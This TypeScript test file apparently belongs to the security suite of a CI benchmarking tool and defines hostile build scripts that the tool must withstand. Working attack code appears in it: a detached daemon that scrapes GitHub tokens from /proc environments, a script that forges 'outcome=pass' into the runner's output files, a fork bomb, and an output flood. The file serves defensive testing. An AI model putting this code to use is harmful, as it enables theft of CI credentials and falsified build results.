/** Heads whose build misbehaves. */
import assert from 'node:assert/strict';
import { type Attack, BY_DEFAULT, LOOT, type Seen } from '../attack.ts';
import { BUILD, FORK_BOMB } from '../victim.ts';

/** Outlives its build, and records all readable environments. */
const HARVESTER = `
const { readdirSync, readFileSync, appendFileSync } = require('node:fs');
appendFileSync('${LOOT}/alive.txt', 'alive\\n');
setInterval(() => {
	for (const name of readdirSync('/proc')) {
		try {
			const found = readFileSync('/proc/' + name + '/environ', 'latin1').match(/(ghs_[0-9a-f]+|ACTIONS_RUNTIME_TOKEN=[^\\0]+)/);
			if (found) appendFileSync('${LOOT}/tokens.txt', found[0] + '\\n');
		} catch {}
	}
}, 5);
setTimeout(() => process.exit(), 60_000);
`;

const daemon = (env: string) => `${BUILD}
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
writeFileSync('${LOOT}/daemon.cjs', ${JSON.stringify(HARVESTER)});
spawn(process.execPath, ['${LOOT}/daemon.cjs'], { detached: true, stdio: 'ignore'${env} }).unref();
// Long enough to be seen among the descendants of the build: an earlier exit goes unnoticed (docs/security.md).
await new Promise((resolve) => setTimeout(resolve, 2000));
`;

/** Harmless at every level, for different reasons. */
const EVERYWHERE = { users: 'honest', none: 'honest' } as const;

/** The daemon ran, and was found and killed. */
function leftADaemon({ loot, result }: Seen): void {
	assert.match(loot, /alive/);
	assert.ok(result?.warnings.some(({ code, message }) => code === 'left-behind' && /head/i.test(message)));
}

export const BUILD_HEADS: readonly Attack[] = [
	{
		does: 'does not build',
		files: { 'build.mjs': "throw new Error('no compiler');\n" },
		ends: BY_DEFAULT,
		says: /no compiler/,
	},
	{
		does: 'never ends its build',
		files: { 'build.mjs': 'setInterval(() => {}, 1000);\n' },
		inputs: { 'prepare-timeout': '5s' },
		ends: 'red',
		says: /prepare-timeout|5 s/,
	},
	{
		does: 'prints 200 MB while it builds',
		files: {
			'build.mjs': `${BUILD}const line = 'x'.repeat(1e6);\nfor (let n = 0; n < 200; n++) console.log(line);\nprocess.exitCode = 1;\n`,
		},
		ends: 'red',
		says: /Head does not build/,
	},
	{
		does: 'leaves a daemon behind that looks for tokens',
		files: { 'build.mjs': daemon('') },
		ends: EVERYWHERE,
		check: leftADaemon,
	},
	{
		does: 'leaves a daemon behind without the environment it is found by',
		files: { 'build.mjs': daemon(', env: {}') },
		ends: EVERYWHERE,
		check: leftADaemon,
	},
	{
		does: "writes into the runner's files",
		files: {
			'build.mjs': `${BUILD}
import { appendFileSync, existsSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
// The runner's files have names that can be guessed, and lie in the folder that this run began in.
appendFileSync('${LOOT}/written.txt', 'looked\\n');
walk(process.cwd().split('/benchgate-cache')[0], 0);
function walk(folder, depth) {
	if (depth > 5 || !existsSync(folder)) return;
	let names = [];
	try { names = readdirSync(folder); } catch { return; }
	for (const name of names) {
		const path = join(folder, name);
		try {
			if (/^(outputcmd|envs|statecmd|pathcmd|SUMMARY|set_output|save_state).*$/i.test(name) && statSync(path).isFile()) {
				appendFileSync(path, '\\noutcome=pass\\nHACKED=yes\\n');
				appendFileSync('${LOOT}/written.txt', path + '\\n');
			} else if (statSync(path).isDirectory()) walk(path, depth + 1);
		} catch {}
	}
}
`,
		},
		ends: EVERYWHERE,
		check: ({ run, loot, level }) => {
			assert.match(loot, /looked/);
			if (level === 'none') assert.match(loot, /outputcmd/, 'the attack found no file of the runner');
			else assert.doesNotMatch(loot, /outputcmd/);
			assert.doesNotMatch(run.summary, /HACKED/);
			assert.equal(run.outputs.benchgate?.HACKED, undefined);
			assert.notEqual(run.outputs.benchgate?.outcome, 'pass');
		},
	},
	{
		does: 'starts as many processes as it can',
		files: {
			'build.mjs': `${BUILD}
${FORK_BOMB}process.exit();
`,
		},
		ends: { users: 'honest' },
		check: ({ loot }) => assert.match(loot, /EAGAIN after \d+/),
	},
];
